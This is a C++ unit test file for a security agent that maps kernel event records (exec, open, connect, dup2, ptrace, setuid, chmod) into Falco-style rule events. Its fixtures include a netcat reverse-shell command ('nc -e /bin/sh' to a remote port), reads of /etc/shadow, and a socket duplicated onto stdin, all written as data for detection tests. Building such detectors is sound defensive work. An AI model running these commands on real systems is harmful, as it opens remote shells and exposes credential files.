#include "agent/security_to_rules.h"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

namespace ksight::agent {
namespace {

using rules::EventType;

SecurityEventRecord base(SecurityEventKind kind, SecuritySyscall sc, uint32_t pid = 100) {
  SecurityEventRecord r;
  r.kind = kind;
  r.syscall = sc;
  r.pid = pid;
  r.tid = pid;
  r.ppid = 50;
  r.comm = "bash";
  r.wall_time_ns = 1700000000000000000ull;
  return r;
}

// Processes that existed before us: 50 = bash (parent 10 = sshd), 10 has parent 1.
std::optional<SecurityProcessBrief> fake_proc(uint32_t pid) {
  if (pid == 50) return SecurityProcessBrief{10, "bash", "/usr/bin/bash", {"-bash"}, "/root"};
  if (pid == 10) return SecurityProcessBrief{1, "sshd", "/usr/sbin/sshd", {"sshd:"}, "/"};
  if (pid == 1) return SecurityProcessBrief{0, "systemd", "/usr/lib/systemd", {"init"}, "/"};
  return std::nullopt;
}

TEST(SecurityToRules, ExecDescribesNewImageAndAncestors) {
  SecurityRulesConverter conv(fake_proc);
  auto r = base(SecurityEventKind::kExec, SecuritySyscall::kExecve);
  r.comm = "nc";
  r.exe = "/usr/bin/nc";
  r.argv = {"nc", "-e", "/bin/sh", "10.0.0.1", "4444"};
  r.cwd = "/tmp";
  r.tty = 34816;
  r.is_exe_from_memfd = true;
  auto e = conv.convert(r);
  EXPECT_EQ(e.type, EventType::kExecve);
  EXPECT_EQ(e.ts_ns, r.wall_time_ns);
  EXPECT_EQ(e.proc.exe, "/usr/bin/nc");
  EXPECT_EQ(e.proc.args, r.argv);
  EXPECT_EQ(e.proc.cwd, "/tmp");
  EXPECT_EQ(e.proc.tty, 34816u);
  EXPECT_TRUE(e.proc.is_exe_from_memfd);
  EXPECT_EQ(e.proc.parent_exe, "/usr/bin/bash");
  EXPECT_EQ(e.proc.ancestors, (std::vector<std::string>{"bash", "sshd", "systemd"}));
  EXPECT_EQ(e.proc.loginuid, -1);

  // A later open by the same pid knows its exe and args from the exec.
  auto o = base(SecurityEventKind::kOpen, SecuritySyscall::kOpenat);
  o.path = "/etc/shadow";
  o.flags = O_RDONLY;
  o.res = 3;
  auto oe = conv.convert(o);
  EXPECT_EQ(oe.type, EventType::kOpenat);
  EXPECT_EQ(oe.proc.exe, "/usr/bin/nc");
  EXPECT_EQ(oe.fd.name, "/etc/shadow");
  EXPECT_EQ(oe.fd.type_char, 'f');
  ASSERT_NE(oe.arg("flags"), nullptr);
  EXPECT_EQ(*oe.arg("flags"), "O_RDONLY");

  // Exit forgets the process.
  size_t before = conv.size();
  conv.convert(base(SecurityEventKind::kProcessExit, SecuritySyscall::kExit));
  EXPECT_EQ(conv.size(), before - 1);
}

// What Falco rules ask beyond the record: the raw path (fd.nameraw), the
// process start (proc.duration) and the ancestors' executables.
TEST(SecurityToRules, RawPathStartTimeAndAncestorExes) {
  SecurityRulesConverter conv(fake_proc);
  auto x = base(SecurityEventKind::kExec, SecuritySyscall::kExecve);
  x.comm = "cat";
  x.exe = "/usr/bin/cat";
  x.boot_time_ns = 5'000'000'000ull;
  conv.convert(x);
  auto o = base(SecurityEventKind::kOpen, SecuritySyscall::kOpenat);
  o.path = "../../etc/shadow";
  o.resolved_path = "/etc/shadow";
  o.flags = O_RDONLY;
  o.res = 3;
  o.boot_time_ns = 7'000'000'000ull;  // 2 s after the exec
  o.wall_time_ns = x.wall_time_ns + 2'000'000'000ull;
  auto e = conv.convert(o);
  EXPECT_EQ(e.fd.name, "/etc/shadow");
  EXPECT_EQ(e.fd.nameraw, "../../etc/shadow");
  EXPECT_EQ(e.proc.start_ts_ns, x.wall_time_ns);
  EXPECT_EQ(e.proc.ancestor_exes,
            (std::vector<std::string>{"/usr/bin/bash", "/usr/sbin/sshd", "/usr/lib/systemd"}));
}

// Our own process, read from /proc: its start time is before now.
TEST(SecurityToRules, ProcBriefReadsTheStartTime) {
  auto brief = read_proc_brief(static_cast<uint32_t>(getpid()));
  ASSERT_TRUE(brief.has_value());
  timespec now{};
  clock_gettime(CLOCK_BOOTTIME, &now);
  uint64_t now_ns = now.tv_sec * 1'000'000'000ull + now.tv_nsec;
  EXPECT_GT(brief->start_boot_ns, 0u);
  EXPECT_LE(brief->start_boot_ns, now_ns);
  EXPECT_GT(brief->start_boot_ns + 600'000'000'000ull, now_ns);  // started < 10 min ago
}

TEST(SecurityToRules, ConnectAndAcceptEndpoints) {
  auto c = base(SecurityEventKind::kConnect, SecuritySyscall::kConnect);
  c.res = -111;
  c.sock = {AF_INET, SOCK_STREAM, 6, "10.0.0.5", 40000, "1.2.3.4", 3333, ""};
  auto e = to_rules_event(c);
  EXPECT_EQ(e.type, EventType::kConnect);
  EXPECT_EQ(e.res, -111);
  EXPECT_EQ(e.fd.type_char, '4');
  EXPECT_EQ(e.fd.sip, "10.0.0.5");
  EXPECT_EQ(e.fd.sport, 40000u);
  EXPECT_EQ(e.fd.dip, "1.2.3.4");
  EXPECT_EQ(e.fd.dport, 3333u);
  EXPECT_EQ(e.fd.l4proto, "tcp");
  EXPECT_FALSE(e.fd.is_server);
  EXPECT_EQ(e.fd.name, "10.0.0.5:40000->1.2.3.4:3333");

  auto a = base(SecurityEventKind::kAccept, SecuritySyscall::kAccept4);
  a.res = 5;
  a.sock = {AF_INET6, SOCK_STREAM, 6, "::1", 8080, "::1", 51000, ""};
  e = to_rules_event(a);
  EXPECT_EQ(e.type, EventType::kAccept);
  EXPECT_EQ(e.fd.type_char, '6');
  EXPECT_TRUE(e.fd.is_server);
  EXPECT_EQ(e.fd.dport, 8080u);
  EXPECT_EQ(e.fd.sport, 51000u);
}

TEST(SecurityToRules, DupOfSocketLooksLikeReverseShell) {
  auto d = base(SecurityEventKind::kDup, SecuritySyscall::kDup2);
  d.fd = 3;
  d.fd2 = 0;
  d.mode = 0140777;
  d.sock = {AF_INET, SOCK_STREAM, 6, "10.0.0.5", 40000, "6.6.6.6", 4444, ""};
  auto e = to_rules_event(d);
  EXPECT_EQ(e.type, EventType::kDup2);
  EXPECT_EQ(e.fd.type_char, '4');
  EXPECT_EQ(e.fd.dip, "6.6.6.6");
  EXPECT_EQ(*e.arg("oldfd"), "3");
  EXPECT_EQ(*e.arg("newfd"), "0");

  d.mode = 0100644;  // a regular file
  d.sock = {};
  e = to_rules_event(d);
  EXPECT_EQ(e.fd.type_char, 'f');
  EXPECT_TRUE(e.fd.dip.empty());
}

TEST(SecurityToRules, ArgumentsInFalcoSpelling) {
  auto p = base(SecurityEventKind::kPtrace, SecuritySyscall::kPtrace);
  p.ptrace_request = 16;
  p.target_pid = 77;
  auto e = to_rules_event(p);
  EXPECT_EQ(*e.arg("request"), "PTRACE_ATTACH");
  EXPECT_EQ(*e.arg("pid"), "77");

  auto s = base(SecurityEventKind::kSetId, SecuritySyscall::kSetresuid);
  s.nids = 3;
  s.ids = {0, 0, 0xffffffff};
  e = to_rules_event(s);
  EXPECT_EQ(e.type, EventType::kSetresuid);
  EXPECT_EQ(*e.arg("ruid"), "0");
  EXPECT_EQ(*e.arg("suid"), "-1");
  s.syscall = SecuritySyscall::kSetgid;
  s.nids = 1;
  EXPECT_EQ(*to_rules_event(s).arg("gid"), "0");

  auto k = base(SecurityEventKind::kKill, SecuritySyscall::kKill);
  k.target_pid = 1;
  k.signal = 9;
  EXPECT_EQ(*to_rules_event(k).arg("sig"), "SIGKILL");

  auto b = base(SecurityEventKind::kBpf, SecuritySyscall::kBpf);
  b.bpf_cmd = 5;
  b.bpf_prog_type = 2;
  EXPECT_EQ(*to_rules_event(b).arg("cmd"), "BPF_PROG_LOAD");
  EXPECT_EQ(*to_rules_event(b).arg("prog_type"), "BPF_PROG_TYPE_KPROBE");

  auto m = base(SecurityEventKind::kMount, SecuritySyscall::kMount);
  m.path = "/dev/sda1";
  m.path2 = "/mnt";
  m.fstype = "ext4";
  e = to_rules_event(m);
  EXPECT_EQ(*e.arg("source"), "/dev/sda1");
  EXPECT_EQ(*e.arg("target"), "/mnt");
  EXPECT_EQ(*e.arg("flags"), "0");

  auto c = base(SecurityEventKind::kChmod, SecuritySyscall::kFchmodat);
  c.path = "x";
  c.resolved_path = "/tmp/x";
  c.mode = 04755;
  e = to_rules_event(c);
  EXPECT_EQ(e.type, EventType::kFchmodat);
  EXPECT_EQ(e.fd.name, "/tmp/x");
  EXPECT_EQ(*e.arg("mode"), "S_ISUID|S_IRUSR|S_IWUSR|S_IXUSR|S_IRGRP|S_IXGRP|S_IROTH|S_IXOTH");

  auto r = base(SecurityEventKind::kRename, SecuritySyscall::kRenameat2);
  r.path = "/a";
  r.path2 = "/b";
  e = to_rules_event(r);
  EXPECT_EQ(e.fd.name, "/a");
  EXPECT_EQ(*e.arg("newpath"), "/b");

  auto x = base(SecurityEventKind::kProcessExit, SecuritySyscall::kExit);
  x.exit_code = 3 << 8;
  e = to_rules_event(x);
  EXPECT_EQ(e.type, EventType::kExit);
  EXPECT_EQ(*e.arg("status"), "3");
}

TEST(SecurityToRules, FailedExecDescribesTheCaller) {
  SecurityRulesConverter conv(fake_proc);
  auto r = base(SecurityEventKind::kExec, SecuritySyscall::kExecve, 50);
  r.ppid = 10;
  r.res = -2;
  r.exe = "/nonexistent";
  r.filename = "/nonexistent";
  auto e = conv.convert(r);
  EXPECT_EQ(e.res, -2);
  EXPECT_EQ(e.proc.exe, "/usr/bin/bash");
  EXPECT_EQ(*e.arg("filename"), "/nonexistent");
}

}  // namespace
}  // namespace ksight::agent
